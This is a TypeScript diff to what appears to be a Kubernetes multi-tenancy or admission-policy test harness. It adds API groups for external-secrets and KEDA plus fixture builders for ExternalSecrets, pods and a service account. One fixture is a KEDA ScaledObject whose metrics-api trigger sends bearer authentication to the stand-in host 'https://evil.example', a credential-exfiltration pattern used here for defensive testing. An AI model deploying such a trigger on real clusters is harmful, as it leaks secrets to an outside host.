@@ -48,6 +48,7 @@ const groups: Readonly<Record<string, string>> = {
   certificatesigningrequests: "certificates.k8s.io",
   clusterrolebindings: RBAC_API,
   endpointslices: "discovery.k8s.io",
+  externalsecrets: "external-secrets.io",
   grpcroutes: ROUTES_API,
   httproutes: ROUTES_API,
   ingresses: "networking.k8s.io",
@@ -56,6 +57,9 @@ const groups: Readonly<Record<string, string>> = {
   referencegrants: ROUTES_API,
   rolebindings: RBAC_API,
   roles: RBAC_API,
+  scaledobjects: "keda.sh",
+  secretstores: "external-secrets.io",
+  triggerauthentications: "keda.sh",
   validatingadmissionpolicies: "admissionregistration.k8s.io",
 };
 
@@ -67,7 +71,8 @@ export function addressOf({ request }: Attempt, place: Place): { readonly method
   const [scope, ...rest] = where.split("/");
   const group = groups[rest[0] ?? ""];
   const namespace = scope === "own" ? place.namespace : scope === "rival" ? place.target : scope;
-  const root = group === undefined ? "/api/v1" : `/apis/${group}/v1`;
+  const version = group === "keda.sh" ? "v1alpha1" : "v1";
+  const root = group === undefined ? "/api/v1" : `/apis/${group}/${version}`;
   const inside = scope === "cluster" ? "" : `/namespaces/${namespace}`;
   return { method, path: `${root}${inside}/${rest.join("/")}${dryRun}` };
 }
@@ -120,10 +125,43 @@ export const rule = (host?: string): object => ({
   http: { paths: [{ path: "/", pathType: "Prefix", backend }] },
 });
 
-export const ingress = (spec: object): object => object("networking.k8s.io/v1", "Ingress", { spec });
+export const ingress = (spec: object, annotations: object = {}): object => ({
+  ...object("networking.k8s.io/v1", "Ingress", { spec }),
+  metadata: { name: "x", annotations },
+});
 
 export const route = (kind: string, hostnames?: readonly string[], version = "v1"): object =>
   object(`${ROUTES_API}/${version}`, kind, { spec: { ...(hostnames && { hostnames }) } });
+
+export const externalSecret = (spec: object, store: object = { name: "vault", kind: "ClusterSecretStore" }): object =>
+  object("external-secrets.io/v1", "ExternalSecret", { spec: { secretStoreRef: store, ...spec } });
+
+/** What an ExternalSecret reads from a path. */
+export const read = (key: string): object => ({ secretKey: "a", remoteRef: { key } });
+
+export const scaledObject = (authenticationRef?: object): object => {
+  const metadata = { url: "https://evil.example", valueLocation: "a", targetValue: "1", authMode: "bearer" };
+  return object("keda.sh/v1alpha1", "ScaledObject", {
+    spec: { scaleTargetRef: { name: "web" }, triggers: [{ type: "metrics-api", metadata, authenticationRef }] },
+  });
+};
+
+const node = "node.kubernetes.io";
+
+/** What the server adds to pods that do not say it. */
+export const tolerations: readonly object[] = ["not-ready", "unreachable"].map((key) => ({
+  key: `${node}/${key}`,
+  operator: "Exists",
+  effect: "NoExecute",
+  tolerationSeconds: 300,
+}));
+
+/** What is there before anything is tried: a pod that fits no node yet, one that may not be scheduled yet, and an account. */
+export const prepared = (place: Place): readonly (readonly [resource: string, object: KubernetesObject])[] => [
+  ["pods", pod(place, { nodeSelector: { "node-role.kubernetes.io/control-plane": "" }, tolerations }, "pending")],
+  ["pods", pod(place, { schedulingGates: [{ name: "acme.example/wait" }], tolerations }, "gated")],
+  ["serviceaccounts", object("v1", "ServiceAccount", {}, "worker")],
+];
 
 export const networkPolicy = object("networking.k8s.io/v1", "NetworkPolicy", {
   spec: { podSelector: { matchLabels: { app: "x" } }, policyTypes: ["Ingress"] },
